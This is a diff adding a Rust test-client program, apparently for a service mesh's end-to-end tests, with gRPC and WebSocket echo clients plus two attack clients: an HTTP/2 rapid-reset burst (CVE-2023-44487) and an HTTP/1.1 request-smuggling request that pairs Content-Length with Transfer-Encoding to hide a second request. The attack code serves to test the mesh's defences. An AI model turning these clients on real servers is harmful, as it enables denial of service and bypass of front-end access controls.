@@ -1,0 +1,288 @@
+//! Clients the end-to-end tests and the demo run inside pods (so that the node agent's eBPF
+//! redirection catches their connections like any application's): a tonic gRPC client, a
+//! WebSocket client, an HTTP/2 rapid-reset burst beside a well-behaved connection, and a
+//! request-smuggling attempt. Each prints one JSON line saying what happened and exits non-zero
+//! only when it could not run at all; the caller judges the result.
+
+use std::time::{Duration, Instant};
+
+use anyhow::Context;
+use clap::{Parser, Subcommand};
+use futures::{SinkExt, StreamExt};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio_tungstenite::tungstenite::Message;
+use weft_proto::sample::{EchoRequest, echo_client::EchoClient};
+
+/// Every exchange is bounded by this.
+const TIMEOUT: Duration = Duration::from_secs(10);
+
+#[derive(Debug, Parser)]
+#[command(name = "mesh-client", about = "Test clients run inside pods")]
+struct Cli {
+    #[command(subcommand)]
+    command: Command,
+}
+
+#[derive(Debug, Subcommand)]
+enum Command {
+    /// Calls the sample app's gRPC echo `count` times on one channel.
+    Grpc {
+        /// `http://host:port`
+        #[arg(long)]
+        target: String,
+        #[arg(long, default_value_t = 10)]
+        count: u32,
+    },
+    /// Opens a WebSocket and checks that `count` messages come back unchanged.
+    Websocket {
+        /// `ws://host:port/path`
+        #[arg(long)]
+        url: String,
+        #[arg(long, default_value_t = 10)]
+        count: u32,
+    },
+    /// HTTP/2 (prior knowledge) to `target`: a burst of `streams` requests each reset at once
+    /// (CVE-2023-44487), while a second connection sends ordinary requests.
+    RapidReset {
+        /// `host:port`
+        #[arg(long)]
+        target: String,
+        /// `:authority` of the requests.
+        #[arg(long)]
+        authority: String,
+        #[arg(long, default_value_t = 1000)]
+        streams: u32,
+    },
+    /// Sends one HTTP/1.1 request carrying both Content-Length and Transfer-Encoding, with a
+    /// second request hidden in its body, then reports what came back.
+    Smuggle {
+        /// `host:port`
+        #[arg(long)]
+        target: String,
+        /// Host header.
+        #[arg(long)]
+        host: String,
+        /// Path of the hidden request.
+        #[arg(long, default_value = "/smuggled")]
+        hidden_path: String,
+    },
+}
+
+fn main() -> anyhow::Result<()> {
+    let cli = Cli::parse();
+    let runtime = tokio::runtime::Builder::new_current_thread()
+        .enable_all()
+        .build()?;
+    let report = runtime.block_on(async {
+        match cli.command {
+            Command::Grpc { target, count } => grpc(&target, count).await,
+            Command::Websocket { url, count } => websocket(&url, count).await,
+            Command::RapidReset {
+                target,
+                authority,
+                streams,
+            } => rapid_reset(&target, &authority, streams).await,
+            Command::Smuggle {
+                target,
+                host,
+                hidden_path,
+            } => smuggle(&target, &host, &hidden_path).await,
+        }
+    })?;
+    println!("{report}");
+    Ok(())
+}
+
+async fn grpc(target: &str, count: u32) -> anyhow::Result<serde_json::Value> {
+    let channel = tonic::transport::Endpoint::from_shared(target.to_string())?
+        .connect_timeout(TIMEOUT)
+        .timeout(TIMEOUT)
+        .connect()
+        .await
+        .with_context(|| format!("connecting to {target}"))?;
+    let mut client = EchoClient::new(channel);
+    let mut replies = Vec::new();
+    let mut errors = Vec::new();
+    for i in 0..count {
+        let message = format!("echo-{i}");
+        match client
+            .echo(EchoRequest {
+                message: message.clone(),
+                fail_with_code: 0,
+                delay_ms: 0,
+            })
+            .await
+        {
+            Ok(reply) => {
+                let reply = reply.into_inner();
+                replies.push(serde_json::json!({
+                    "echoed": reply.message == message,
+                    "version": reply.version,
+                    "pod": reply.pod,
+                }));
+            }
+            Err(status) => errors.push(format!("{:?}: {}", status.code(), status.message())),
+        }
+    }
+    Ok(serde_json::json!({ "replies": replies, "errors": errors }))
+}
+
+async fn websocket(url: &str, count: u32) -> anyhow::Result<serde_json::Value> {
+    let exchange = async {
+        let (mut socket, response) = tokio_tungstenite::connect_async(url)
+            .await
+            .with_context(|| format!("opening {url}"))?;
+        let pod = response
+            .headers()
+            .get("x-weft-pod")
+            .and_then(|v| v.to_str().ok())
+            .unwrap_or("")
+            .to_string();
+        let mut echoed = 0;
+        for i in 0..count {
+            let text = format!("message {i} through the mesh");
+            socket.send(Message::text(text.clone())).await?;
+            match socket.next().await {
+                Some(Ok(Message::Text(reply))) if reply.as_str() == text => echoed += 1,
+                other => anyhow::bail!("message {i}: unexpected answer {other:?}"),
+            }
+        }
+        socket.close(None).await?;
+        anyhow::Ok(serde_json::json!({
+            "status": response.status().as_u16(),
+            "pod": pod,
+            "echoed": echoed,
+        }))
+    };
+    tokio::time::timeout(TIMEOUT, exchange)
+        .await
+        .context("the WebSocket exchange timed out")?
+}
+
+/// Connects with HTTP/2 prior knowledge.
+async fn h2_connect(
+    target: &str,
+) -> anyhow::Result<(
+    h2::client::SendRequest<bytes::Bytes>,
+    tokio::task::JoinHandle<Result<(), h2::Error>>,
+)> {
+    let stream = tokio::time::timeout(TIMEOUT, tokio::net::TcpStream::connect(target))
+        .await
+        .context("connect timed out")?
+        .with_context(|| format!("connecting to {target}"))?;
+    let (client, connection) = h2::client::handshake(stream).await?;
+    Ok((client, tokio::spawn(connection)))
+}
+
+async fn rapid_reset(
+    target: &str,
+    authority: &str,
+    streams: u32,
+) -> anyhow::Result<serde_json::Value> {
+    // The well-behaved neighbour: its own connection, one request at a time, for as long as the
+    // burst lasts and a little longer.
+    let (good, good_driver) = h2_connect(target).await?;
+    let neighbour_authority = authority.to_string();
+    let (stop_tx, mut stop) = tokio::sync::watch::channel(false);
+    let neighbour = tokio::spawn(async move {
+        let (mut ok, mut failed) = (0u32, 0u32);
+        let mut good = good;
+        let deadline = Instant::now() + Duration::from_secs(30);
+        loop {
+            if *stop.borrow() || Instant::now() > deadline {
+                break;
+            }
+            let request = http::Request::get(format!("http://{neighbour_authority}/neighbour"))
+                .body(())
+                .expect("a valid request");
+            let outcome = async {
+                good = good.clone().ready().await?;
+                let (response, _) = good.send_request(request, true)?;
+                let response = response.await?;
+                let status = response.status();
+                let mut body = response.into_body();
+                while let Some(chunk) = body.data().await {
+                    let chunk = chunk?;
+                    let _ = body.flow_control().release_capacity(chunk.len());
+                }
+                Ok::<_, h2::Error>(status)
+            };
+            match tokio::time::timeout(TIMEOUT, outcome).await {
+                Ok(Ok(status)) if status.is_success() => ok += 1,
+                _ => failed += 1,
+            }
+            tokio::select! {
+                _ = tokio::time::sleep(Duration::from_millis(20)) => {}
+                _ = stop.changed() => {}
+            }
+        }
+        (ok, failed)
+    });
+    tokio::time::sleep(Duration::from_millis(200)).await;
+
+    let (mut client, driver) = h2_connect(target).await?;
+    let mut sent = 0u32;
+    for i in 0..streams {
+        let Ok(Ok(ready)) = tokio::time::timeout(TIMEOUT, client.clone().ready()).await else {
+            break;
+        };
+        client = ready;
+        let request = http::Request::get(format!("http://{authority}/reset/{i}"))
+            .body(())
+            .expect("a valid request");
+        let Ok((_, mut stream)) = client.send_request(request, false) else {
+            break;
+        };
+        stream.send_reset(h2::Reason::CANCEL);
+        sent += 1;
+    }
+    drop(client);
+    let closed_by = match tokio::time::timeout(TIMEOUT, driver).await {
+        Ok(Ok(Ok(()))) => "closed cleanly".to_string(),
+        Ok(Ok(Err(error))) if error.is_go_away() && error.is_remote() => {
+            format!("GOAWAY {:?}", error.reason())
+        }
+        Ok(Ok(Err(error))) => format!("error {error}"),
+        Ok(Err(join)) => format!("driver failed: {join}"),
+        Err(_) => "still open".to_string(),
+    };
+    // Let the neighbour go on for a moment after the burst ended.
+    tokio::time::sleep(Duration::from_millis(500)).await;
+    let _ = stop_tx.send(true);
+    let (ok, failed) = neighbour.await?;
+    good_driver.abort();
+    Ok(serde_json::json!({
+        "resets_sent": sent,
+        "burst_connection": closed_by,
+        "neighbour_ok": ok,
+        "neighbour_failed": failed,
+    }))
+}
+
+async fn smuggle(target: &str, host: &str, hidden_path: &str) -> anyhow::Result<serde_json::Value> {
+    let hidden = format!("GET {hidden_path} HTTP/1.1\r\nHost: {host}\r\n\r\n");
+    let body = format!("0\r\n\r\n{hidden}");
+    let request = format!(
+        "POST /front HTTP/1.1\r\nHost: {host}\r\nContent-Length: {}\r\nTransfer-Encoding: chunked\r\n\r\n{body}",
+        body.len()
+    );
+    let exchange = async {
+        let mut stream = tokio::net::TcpStream::connect(target).await?;
+        stream.write_all(request.as_bytes()).await?;
+        let mut answer = Vec::new();
+        // The server answers and closes; a server that kept the connection open for a second
+        // request would show up as a timeout with two responses read.
+        let _ = tokio::time::timeout(Duration::from_secs(3), stream.read_to_end(&mut answer)).await;
+        anyhow::Ok(answer)
+    };
+    let answer = tokio::time::timeout(TIMEOUT, exchange)
+        .await
+        .context("the smuggling attempt timed out")??;
+    let text = String::from_utf8_lossy(&answer);
+    let statuses: Vec<&str> = text
+        .lines()
+        .filter(|l| l.starts_with("HTTP/1."))
+        .filter_map(|l| l.split_whitespace().nth(1))
+        .collect();
+    Ok(serde_json::json!({ "statuses": statuses, "answer": text }))
+}
